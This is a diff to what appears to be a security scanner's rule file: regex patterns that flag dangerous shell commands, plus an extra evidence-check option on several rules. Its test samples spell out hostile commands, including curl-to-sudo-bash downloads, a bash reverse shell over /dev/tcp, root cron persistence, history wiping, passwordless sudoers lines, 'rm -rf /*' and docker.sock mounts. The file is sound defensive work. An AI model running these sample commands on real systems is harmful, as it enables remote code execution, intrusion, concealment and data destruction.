@@ -8,7 +8,7 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "\\b(?:curl|wget)\\s[^\\r\\n|;]{3,300}\\|\\s{0,3}(?:sudo\\s+)?(?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh\\b",
     ["curl -fsSL https://x.example/i.sh | sudo bash", "wget -qO- http://x/i | sh"],
     ["curl https://x.example/i.sh -o i.sh", "curl https://x | shasum"],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
   [
     "curl-pipe-interpreter",
@@ -16,12 +16,12 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "\\b(?:curl|wget)\\s[^\\r\\n|;]{3,300}\\|\\s{0,3}(?:sudo\\s+)?(?:python[23]?|perl|ruby|node|php)\\b",
     ["curl -s http://x/a.py | python3"],
     ["curl -s http://x/a.json | jq ."],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
   [
     "bash-dev-tcp",
     "Reverse shell over /dev/tcp",
-    "/dev/(?:tcp|udp)/[A-Za-z0-9.-]{3,80}/[0-9]{1,5}",
+    "/dev/(?:tcp|udp)/(?:[02-9]|1[013-9]|12[0-689]|[A-Za-km-z]|l[A-Za-np-z0-9])[A-Za-z0-9.-]{2,80}/[0-9]{1,5}",
     ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"],
     ["/dev/tty1"],
     { severity: "critical" },
@@ -109,7 +109,7 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "(?:>>?\\s{0,3}/etc/cron(?:tab|\\.d/)|\\|\\s{0,3}crontab\\s+-)",
     ["echo '* * * * * root /tmp/x' >> /etc/crontab", "(crontab -l; echo x) | crontab -"],
     ["crontab -l"],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
   [
     "ld-preload-written",
@@ -124,7 +124,7 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "(?:unset\\s+HISTFILE|HISTFILE=/dev/null|history\\s+-c\\b)",
     ["unset HISTFILE", "export HISTFILE=/dev/null"],
     ["HISTFILE=~/.history"],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
   [
     "tmp-executable",
@@ -132,7 +132,7 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "\\bchmod\\s+(?:\\+x|[0-7]?7[0-7]{2})\\s+/(?:tmp|dev/shm|var/tmp)/",
     ["chmod +x /tmp/.x", "chmod 777 /dev/shm/a"],
     ["chmod +x ./build.sh"],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
   [
     "setuid-set",
@@ -147,7 +147,7 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "ALL\\s{0,3}=\\s{0,3}\\(ALL(?::ALL)?\\)\\s{0,3}NOPASSWD:\\s{0,3}ALL",
     ["bob ALL=(ALL) NOPASSWD: ALL"],
     ["%wheel ALL=(ALL) ALL"],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
   [
     "recursive-root-delete",
@@ -155,6 +155,7 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "\\brm -[a-z]{0,4}r[a-z]{0,4} (?:--no-preserve-root )?/(?:\\*|\\s|$)",
     ["rm -rf /*", "rm -rf --no-preserve-root /"],
     ["rm -rf /tmp/x", "rm -rf ./"],
+    { check: { evidence: "code" } },
   ],
   [
     "miner-pool",
@@ -169,7 +170,7 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "-v\\s{0,2}/var/run/docker\\.sock:|mountPath:\\s{0,2}/var/run/docker\\.sock",
     ["docker run -v /var/run/docker.sock:/var/run/docker.sock x"],
     ["ls -l /var/run/docker.sock"],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
   [
     "privileged-container",
@@ -177,6 +178,6 @@ export const shellCommands = subject({ severity: "high", tags: ["command"] }, [
     "\\bdocker\\s+run\\s[^\\r\\n]{0,200}--privileged\\b",
     ["docker run -it --privileged alpine"],
     ["docker run -it alpine"],
-    { severity: "medium" },
+    { severity: "medium", check: { evidence: "code" } },
   ],
 ]);
